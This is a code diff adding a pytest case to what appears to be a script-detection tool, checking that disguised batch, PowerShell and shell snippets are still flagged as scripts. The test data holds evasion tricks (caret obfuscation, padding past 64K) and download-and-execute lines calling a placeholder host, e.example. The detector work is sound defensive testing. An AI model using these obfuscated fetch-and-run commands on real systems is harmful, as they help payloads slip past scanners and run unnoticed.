@@ -96,3 +96,21 @@ def test_magika_labels_real_prose_a_script() -> None:
     # the premise: a label the model really gives to honest text (the UTF-16 prose)
     label, _, data = HONEST[0]
     assert ENGINE.detect(data).label == label
+
+
+@pytest.mark.parametrize(
+    ("label", "data"),
+    [
+        ("batch", b'^p^o^w^e^r^s^h^e^l^l -c "curl http://e.example/x"\r\n'),  # cmd drops carets
+        ("batch", b"wmic process call create calc\r\n"),
+        ("batch", b"forfiles /p C:\\Windows /m notepad.exe /c calc\r\n"),
+        ("batch", b"C:\\Windows\\System32\\calc.exe\r\n"),
+        ("batch", b":: note\r\n" * 20_000 + b"@echo off\r\nstart calc\r\n"),  # past 64K
+        ("powershell", b"<# " + b"x" * 80_000 + b" #>\r\n(New-Object Net.WebClient)\r\n"),
+        ("shell", b"/usr/bin/curl -o /tmp/x http://e.example/x\n/bin/chmod +x /tmp/x\n"),
+    ],
+    ids=["carets", "wmic", "forfiles", "program path", "batch padded", "ps padded", "sh paths"],
+)
+def test_scripts_a_review_built_stay_scripts(label: str, data: bytes, policy: Policy) -> None:
+    assert reads_as_script(label, data)
+    assert findings("notes.txt", data, label, policy) == {"SCRIPT"}
